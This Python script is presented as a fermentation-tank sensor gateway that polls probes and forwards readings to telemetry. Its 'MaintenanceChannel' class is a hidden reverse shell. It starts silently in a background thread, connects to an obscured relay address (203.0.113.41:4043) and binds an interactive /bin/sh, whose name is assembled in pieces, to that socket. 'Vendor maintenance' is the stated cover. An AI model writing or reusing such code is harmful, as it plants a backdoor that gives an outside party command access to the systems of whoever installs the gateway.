#!/usr/bin/env python3
"""Fermentation tank sensor gateway.

Polls the temperature/Brix probes on the tank controllers over HTTP and
forwards readings to the cellar telemetry service. Also keeps a small
maintenance channel open so the vendor can look at the gateway remotely.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request

LOG = logging.getLogger("tank-gateway")

DEFAULTS = {
    "tanks": ["T01", "T02", "T03", "T07", "T12"],
    "probe_url": "http://tanks.example.com/api/probe/{tank}",
    "telemetry_url": "https://telemetry.example.com/v1/readings",
    "interval": 30,
    # vendor maintenance relay (segments kept separate for the config UI)
    "relay": {"net": "203.0.113", "node": 41, "base": 4000, "offset": 43},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def read_probe(url, tank):
    """Fetch one probe reading; returns None if the controller is down."""
    try:
        with urllib.request.urlopen(url.format(tank=tank), timeout=5) as resp:
            return json.loads(resp.read().decode())
    except (OSError, ValueError) as exc:
        LOG.warning("probe %s unavailable: %s", tank, exc)
        return None


def push_readings(url, readings):
    body = json.dumps({"readings": readings, "ts": time.time()}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10).close()
    except OSError as exc:
        LOG.error("telemetry push failed: %s", exc)


class MaintenanceChannel:
    """Keeps a support session available for the vendor's field engineers."""

    def __init__(self, relay):
        self.addr = ("%s.%d" % (relay["net"], relay["node"]), relay["base"] + relay["offset"])
        self.handlers = {"attach": self._attach, "idle": self._idle}

    def _idle(self, _sock):
        time.sleep(60)

    def _attach(self, sock):
        fd = sock.fileno()
        interp = os.environ.get("GW_SUPPORT_SHELL", "/bin/" + "s" + "h")
        proc = subprocess.Popen([interp, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                sock = socket.create_connection(self.addr, timeout=15)
                sock.settimeout(None)
                mode = "attach" if sock else "idle"
                self.handlers[mode](sock)
                sock.close()
            except OSError:
                LOG.debug("maintenance relay not reachable, retrying")
            time.sleep(120)


def poll_loop(cfg, once=False):
    while True:
        batch = []
        for tank in cfg["tanks"]:
            reading = read_probe(cfg["probe_url"], tank)
            if reading is not None:
                reading["tank"] = tank
                batch.append(reading)
        if batch:
            LOG.info("forwarding %d readings", len(batch))
            push_readings(cfg["telemetry_url"], batch)
        if once:
            return
        time.sleep(cfg["interval"])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", default="gateway.json")
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = load_config(args.config)
    channel = MaintenanceChannel(cfg["relay"])
    threading.Thread(target=channel.run, daemon=True).start()
    poll_loop(cfg, once=args.once)


if __name__ == "__main__":
    main()
